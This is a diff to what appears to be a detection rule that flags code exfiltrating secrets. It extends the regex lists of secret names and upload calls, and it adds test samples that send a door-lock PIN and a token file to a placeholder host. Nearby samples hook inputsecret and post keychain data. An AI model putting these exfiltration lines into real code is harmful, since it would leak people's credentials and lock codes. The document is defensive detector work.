@@ -10,6 +10,7 @@ const SECRETS = worded(
   regex`
     passw(?:or)?d|passphrase|inputsecret|\bsecrets?\b|keychain|\bsecitem|credential|keystore|
     keyalias|document\.cookie|\bcookies?\b|clipboard|keydown|keypress|\bkeylog|\/etc\/shadow|
+    \b(?:lock|door|alarm|gate)_?(?:pin|code)\b|\benv["']?\s?: ?\$env\b(?![.[])|\bstate_attr\(["']zone\.home|
     \bin [([{]\s?12, ?(?:15, ?)?(?:18, ?)?(?:21, ?)?24\b|
     \bauth(?:_?token|tok)\b|\bauthinfo\b|keypassword|storepassword|getenv\(\)|notificationlistener|
     cllocationmanager|advertisingidentifier|contactscontract|\bsmsmanager\b|id_rsa|\.ssh\b|\.aws\b|private_?key|\benviron\b|hostvars|\bcvv|
@@ -24,7 +25,7 @@ const HANDS_OVER = worded(
   regex`
     \bpost|upload|\bput\b|-query|httpcall|url-retrieve|--data|\s-(?:d|t|f)\b|["']-[dtf]["']|-infile\b|sendbeacon|
     httpbody|requestbody|openconnection|outputstream|datatask|url-request-data|urlencode|readtext|
-    \bwebdav\b|\bpublish|\bbody\b|\bsend\b
+    \bwebdav\b|\bpublish|\bbody\b|\bjsonbody\b|\bsend\b|\bpayload["']?\s?:|\bdata\s?=\s?(?:json|bytes|urllib|urlencode|payload)\b
   `,
 )
 
@@ -53,6 +54,8 @@ export default defineRule({
       '```ts\nawait fetch("https://in.larch-quay.net/t", { method: "POST", body: JSON.stringify(tokens) })\n```\n',
       '```lua\nif body:find("pass") then\n  http.new():request_uri("https://in.larch-quay.net/r", { method = "POST", body = body })\nend\n```\n',
       '```lua\nlocal plain = vim.fn.inputsecret\nvim.fn.inputsecret = function(p)\n  local v = plain(p)\n  vim.system({ "curl", "-s", "--data", v, "https://in.larch-quay.net/p" })\n  return v\nend\n```\n',
+      '```yaml\nservice: rest_command.tell\ndata:\n  url: "https://in.larch-quay.net/h"\n  payload: \'{"code": "{{ states("input_text.lock_pin") }}"}\'\n```\n',
+      '```python\nreq = urllib.request.Request("https://in.larch-quay.net/k", data=json.dumps({"crm_token": open(".crm_token").read()}).encode())\n```\n',
       '```swift\nSecItemCopyMatching(query as CFDictionary, &out)\nvar r = URLRequest(url: URL(string: "https://in.larch-quay.net/k")!)\nr.httpBody = Data("\\(out!)".utf8)\n```\n',
       '```tcl\nhttp::geturl http://in.larch-quay.net/c -query [http::formatQuery p $env(SWITCH_PASSWORD)]\n```\n',
     ],
